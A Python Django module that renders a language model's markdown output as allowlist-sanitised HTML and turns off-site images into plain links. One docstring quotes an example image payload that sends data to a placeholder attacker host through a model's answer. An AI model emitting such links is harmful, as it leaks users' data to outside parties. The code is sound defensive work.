"""Model output → safe HTML: CommonMark (plus tables and strikethrough) rendered on the server, then
sanitised with an allowlist. Raw HTML in the model's text is never passed through: markdown-it
escapes it, and nh3 removes anything outside the allowlist (scripts, event handlers, `javascript:`
URLs) from what markdown produced. Links open safely (`rel="noopener noreferrer"`)."""

from __future__ import annotations

from functools import lru_cache
from typing import Any

import nh3
from django.utils.safestring import SafeString, mark_safe
from markdown_it import MarkdownIt
from markdown_it.common.utils import escapeHtml

ALLOWED_TAGS = frozenset(
    {
        "p",
        "br",
        "hr",
        "strong",
        "em",
        "del",
        "s",
        "code",
        "pre",
        "blockquote",
        "ul",
        "ol",
        "li",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "a",
        "img",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
    }
)
ALLOWED_ATTRIBUTES = {
    "a": {"href", "title"},
    "img": {"src", "alt", "title"},
    "code": {"class"},
    "th": {"align"},
    "td": {"align"},
    "ol": {"start"},
}
URL_SCHEMES = frozenset({"http", "https", "mailto"})


@lru_cache(maxsize=1)
def _parser() -> MarkdownIt:
    parser = MarkdownIt("commonmark", {"html": False, "linkify": False}).enable(["table", "strikethrough"])
    parser.add_render_rule("image", _image)
    return parser


def _image(renderer: Any, tokens: Any, idx: int, options: Any, env: Any) -> str:
    """Images from this site render; any other is a link (a model's `![x](https://attacker/?d=DATA)`
    must not make every viewer's browser fetch it, and the CSP's img-src would refuse it anyway)."""
    token = tokens[idx]
    src = str(token.attrGet("src") or "")
    if src.startswith("/") and not src.startswith("//"):
        return renderer.image(tokens, idx, options, env)
    alt = renderer.renderInlineAsText(token.children or [], options, env) or src
    return f'<a href="{escapeHtml(src)}">{escapeHtml(alt)}</a> (external image, not loaded)'


def render_markdown(text: str | None) -> SafeString:
    """Sanitised HTML for a model's markdown answer."""
    if not text:
        return mark_safe("")
    html = _parser().render(text)
    clean = nh3.clean(
        html,
        tags=set(ALLOWED_TAGS),
        attributes={k: set(v) for k, v in ALLOWED_ATTRIBUTES.items()},
        url_schemes=set(URL_SCHEMES),
        link_rel="noopener noreferrer",
    )
    return mark_safe(clean)
